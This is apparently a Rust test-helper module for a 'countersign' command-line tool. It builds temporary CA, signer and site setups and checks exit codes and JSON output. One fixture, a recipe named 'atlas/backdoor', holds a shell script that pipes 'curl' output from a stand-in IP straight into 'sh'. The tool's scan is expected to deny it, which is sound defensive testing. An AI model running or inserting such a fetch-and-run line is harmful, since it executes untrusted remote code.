//! A folder to run commands in, with a VO and a site where a test wants them.

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use serde_json::Value;
use tempfile::TempDir;

/// A recipe that the scan allows.
pub(crate) const WEB: &str = r#"[recipe]
name = "atlas/web"
version = "1.4.0"
summary = "Static page"
base = ["debian-12"]

[[step]]
file = { path = "/var/www/index.html", source = "files/index.html", mode = "0644" }
"#;

/// A recipe that the scan denies: it runs what it downloads.
pub(crate) const BACKDOOR: &str = r#"[recipe]
name = "atlas/backdoor"
version = "1.0.0"
summary = "Not what it says"
base = ["debian-12"]

[[step]]
run = { script = "scripts/setup.sh", creates = "/opt/ready" }
"#;
pub(crate) const FETCH_AND_RUN: &str = "#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n";

/// A folder of its own; every command runs in it, so that arguments can be relative.
pub(crate) struct World {
    folder: TempDir,
}

/// How a command ended.
pub(crate) struct Run {
    pub(crate) status: i32,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
}

impl Run {
    pub(crate) fn of(output: &Output) -> Self {
        Self {
            status: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8(output.stdout.clone()).unwrap(),
            stderr: String::from_utf8(output.stderr.clone()).unwrap(),
        }
    }

    /// The one JSON object on standard output.
    pub(crate) fn json(&self) -> Value {
        assert_eq!(self.stdout.lines().count(), 1, "one line of JSON: {}\n{}", self.stdout, self.stderr);
        serde_json::from_str(&self.stdout).unwrap()
    }

    #[track_caller]
    pub(crate) fn done(self) -> Self {
        assert_eq!(self.status, 0, "{}\n{}", self.stdout, self.stderr);
        assert_eq!(self.stderr, "", "a command that did its work says nothing on standard error");
        self
    }

    /// Refused or failed with this code, which the first line of standard error starts with.
    #[track_caller]
    pub(crate) fn ended(self, status: i32, code: &str) -> Self {
        assert_eq!(self.status, status, "{}\n{}", self.stdout, self.stderr);
        assert!(self.stderr.starts_with(&format!("{code}: ")), "{}", self.stderr);
        self
    }

    #[track_caller]
    pub(crate) fn usage(self) -> Self {
        assert_eq!(self.status, 2, "{}\n{}", self.stdout, self.stderr);
        assert!(self.stderr.starts_with("error: "), "{}", self.stderr);
        self
    }
}

impl World {
    pub(crate) fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap() }
    }

    /// A world with a VO's CA in `ca`, its signer's `alice.key.pem` and `alice.cert.pem`, and the recipe `web`, not signed.
    pub(crate) fn with_vo() -> Self {
        let world = Self::new();
        world.run("ca init ca --organisation atlas --no-passphrase").done();
        world.signer("alice", "ca");
        world.recipe("web", WEB, &[("files/index.html", "hello\n")]);
        world
    }

    /// A world as [`World::with_vo`], with a site in `site` that trusts the VO. Its keys have no passphrase.
    pub(crate) fn with_site() -> Self {
        let world = Self::with_vo();
        world.write("site-recipes/suites/baseline.toml", "");
        world.run("init site --id example-site --site-recipes site-recipes --no-passphrase").done();
        world.run("--site site anchor add atlas --ca ca/ca.cert.pem --crl ca/ca.crl.pem --vo atlas").done();
        world
    }

    /// Makes a key and a certificate for it.
    pub(crate) fn signer(&self, name: &str, ca: &str) {
        self.run(&format!("key generate {name}.key.pem --no-passphrase")).done();
        let public = self.json(&format!("key public {name}.key.pem"));
        self.write(&format!("{name}.pub.pem"), public["publicKey"].as_str().unwrap());
        self.run(&format!("ca issue {ca} --name {name} --public-key {name}.pub.pem --out {name}.cert.pem"))
            .done();
    }

    pub(crate) fn recipe(&self, folder: &str, manifest: &str, files: &[(&str, &str)]) {
        self.write(&format!("{folder}/recipe.toml"), manifest);
        for (path, content) in files {
            self.write(&format!("{folder}/{path}"), content);
        }
    }

    pub(crate) fn path(&self, path: &str) -> PathBuf {
        self.folder.path().join(path)
    }

    pub(crate) fn write(&self, path: &str, content: &str) {
        let path = self.path(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    pub(crate) fn read(&self, path: &str) -> String {
        std::fs::read_to_string(self.path(path)).unwrap()
    }

    /// `countersign ARGUMENTS`, separated by blanks, with an empty standard input.
    pub(crate) fn command(&self, arguments: &str) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_countersign"));
        command
            .args(arguments.split_ascii_whitespace())
            .current_dir(self.folder.path())
            .env_remove("COUNTERSIGN_SITE")
            .env_remove("COUNTERSIGN_PASSPHRASE_FILE")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        command
    }

    pub(crate) fn run(&self, arguments: &str) -> Run {
        Run::of(&self.command(arguments).output().unwrap())
    }

    /// Runs with `--format json`; the answer's object.
    #[track_caller]
    pub(crate) fn json(&self, arguments: &str) -> Value {
        self.run(&format!("--format json {arguments}")).done().json()
    }

    /// Runs with `--format json` what must be refused or fail: in both places with this code.
    #[track_caller]
    pub(crate) fn json_ended(&self, status: i32, code: &str, arguments: &str) -> Value {
        let run = self.run(&format!("--format json {arguments}")).ended(status, code);
        assert_eq!(
            run.stderr.lines().count(),
            1,
            "with JSON, standard error has the code's line only: {}",
            run.stderr
        );
        let value = run.json();
        assert_eq!(value["code"], code, "{value}");
        assert_eq!(value["result"], if status == 1 { "refused" } else { "failed" }, "{value}");
        assert!(value["seconds"].is_f64(), "{value}");
        value
    }
}
